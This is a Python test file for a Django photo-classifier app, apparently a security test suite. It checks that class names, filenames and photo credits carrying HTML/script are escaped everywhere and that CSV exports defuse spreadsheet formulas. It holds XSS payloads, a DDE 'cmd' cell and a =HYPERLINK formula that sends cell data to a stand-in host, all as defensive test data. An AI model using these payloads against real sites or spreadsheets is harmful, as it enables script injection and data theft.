"""A class, a classifier and a file named with HTML and script are shown as text on every page: the raw
markup never reaches a page's HTML, whichever page, message, report or answer carries the name."""

from __future__ import annotations

import csv
import io

import pytest
from bs4 import BeautifulSoup
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils.html import escape

from classifiers.models import Classifier
from classifiers.services.catalog import classifier_create
from classifiers.services.training import training_run_create, training_run_execute
from classifiers.services.uploads import photos_add_uploads
from tests.classifiers.views.conftest import photo_upload
from tests.fakes.images import photo as sample_photo
from tests.urlwalk import site_routes
from tests.worlds import full_classifier

EVIL = "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>"
# What must never appear in a page's HTML: the markup of EVIL as markup.
RAW = ["<img src=x", "<script>window.__pwned"]
# Downloads rather than pages (the credits file is checked on its own below).
FILES = {"model_download", "attribution_download", "photo_image"}


def assert_shown_as_text(html: str, where: str) -> None:
    for raw in RAW:
        assert raw not in html, f"{where} carries {raw!r} as markup"


@pytest.fixture
def evil_world(ada):
    return full_classifier(ada[0], name=f"{EVIL} classifier", label_names=(EVIL, 'say "hi" & <b>bye</b>'),
                           photo_name="<img src=x onerror=window.__pwned=1>.jpg")


def test_no_page_carries_a_name_with_markup_as_markup(ada, evil_world):
    client = ada[1]
    pages = [route.url(evil_world) for route in site_routes()
             if not route.is_api and not route.regex and "GET" in route.methods() and route.name not in FILES]
    shown_on = []
    for url in pages:
        response = client.get(url)
        if response.status_code != 200 or not response["Content-Type"].startswith("text/html"):
            continue
        html = response.content.decode()
        assert_shown_as_text(html, url)
        if escape(EVIL) in html:
            shown_on.append(url)
    c = evil_world["classifier_id"]
    # The name really was on the pages that show it (escaped), so the check above was not vacuous.
    assert {reverse("dashboard"), reverse("classifier_detail", args=[c]), reverse("classifier_results", args=[c]),
            reverse("classifier_review", args=[c]), reverse("classifier_try", args=[c]),
            reverse("classifier_api", args=[c]), reverse("classifier_delete", args=[c])} <= set(shown_on)


def test_the_page_shows_the_name_as_the_person_typed_it(ada, evil_world):
    page = ada[1].get(reverse("classifier_detail", args=[evil_world["classifier_id"]]))
    soup = BeautifulSoup(page.content, "html.parser")
    assert soup.find(id=f"class-{evil_world['label_id']}-title").get_text() == EVIL
    assert soup.find("h1").get_text(strip=True) == f"{EVIL} classifier"
    assert not soup.find("script", string=lambda text: text and "__pwned" in text)
    assert not soup.find("img", src="x")


def test_messages_and_upload_reports_show_names_as_text(ada):
    classifier = classifier_create(owner=ada[0], name="Plain", label_names=["a", "b"])
    label = classifier.labels.get(name="a")
    response = ada[1].post(reverse("label_rename", args=[classifier.id, label.id]), {"name": EVIL}, follow=True)
    html = response.content.decode()
    assert f"Renamed the class to “{escape(EVIL)}”." in html
    assert_shown_as_text(html, "the rename message")
    evil_file = SimpleUploadedFile("<img src=x onerror=window.__pwned=1>.jpg", b"<script>window.__pwned=1</script>")
    response = ada[1].post(reverse("photos_upload", args=[classifier.id, label.id]), {"files": [evil_file]},
                           follow=True)
    html = response.content.decode()
    assert_shown_as_text(html, "the upload report")
    assert escape("<img src=x onerror=window.__pwned=1>.jpg") in html


def test_progress_and_credits_carry_names_as_data_a_browser_will_not_run(ada, evil_world):
    c = evil_world["classifier_id"]
    status = ada[1].get(reverse("search_status", args=[c, evil_world["job_id"]]))
    assert status["Content-Type"] == "application/json"
    assert status["X-Content-Type-Options"] == "nosniff"
    for fmt, content_type in (("csv", "text/csv; charset=utf-8"), ("json", "application/json")):
        credits = ada[1].get(reverse("attribution_download", args=[c, fmt]))
        assert credits["Content-Type"] == content_type
        assert credits["Content-Disposition"].startswith("attachment;")
        assert EVIL in credits.content.decode()  # the data itself, unchanged, in a file that is not a page


@pytest.mark.slow
def test_the_try_it_answer_names_the_class_as_text(ada):
    classifier = classifier_create(owner=ada[0], name="Hats", label_names=[EVIL, "shoes"])
    hat, shoes = classifier.labels.get(name=EVIL), classifier.labels.get(name="shoes")
    photos_add_uploads(label=hat, files=[photo_upload(f"hat-{n:04d}.jpg") for n in range(24, 33)])
    photos_add_uploads(label=shoes, files=[photo_upload(f"shoes-{n:04d}.jpg") for n in range(23, 32)])
    with transaction.atomic():  # queued on commit, which this test's transaction holds back: run it here
        run = training_run_create(classifier=classifier)
    assert training_run_execute(run_id=run.id).status == "succeeded"
    url = reverse("classifier_try", args=[classifier.id])

    page = ada[1].post(url, {"image": photo_upload("hat-0033.jpg")})
    html = page.content.decode()
    assert_shown_as_text(html, "the try-it answer")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find(attrs={"data-verdict": True}).get_text(strip=True) == EVIL
    assert EVIL in [label.get_text() for label in soup.select("[data-bars] .bar-label")]

    answer = ada[1].post(url, {"image": photo_upload("hat-0033.jpg")}, HTTP_ACCEPT="application/json")
    assert answer["Content-Type"] == "application/json"
    assert answer.json()["answer"]["label"] == EVIL  # data, for the page's script to set as text
    assert Classifier.objects.get(id=classifier.id).labels.filter(name=EVIL).exists()


def test_photo_credits_never_start_a_spreadsheet_cell_with_a_formula(ada):
    classifier = classifier_create(owner=ada[0], name="Sheets", label_names=["=cmd|' /C calc'!A0", "b"])
    label = classifier.labels.get(name__startswith="=")
    [photo] = photos_add_uploads(label=label, files=[SimpleUploadedFile("a.jpg", sample_photo(7))]).added
    photo.title, photo.author, photo.license = '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)", "\t=1+1"
    photo.save()
    rows = list(csv.DictReader(io.StringIO(ada[1].get(
        reverse("attribution_download", args=[classifier.id, "csv"])).content.decode())))
    assert [(row["class"], row["title"], row["author"], row["license"]) for row in rows] == [
        ("'=cmd|' /C calc'!A0", '\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(1+1)", "'\t=1+1")]
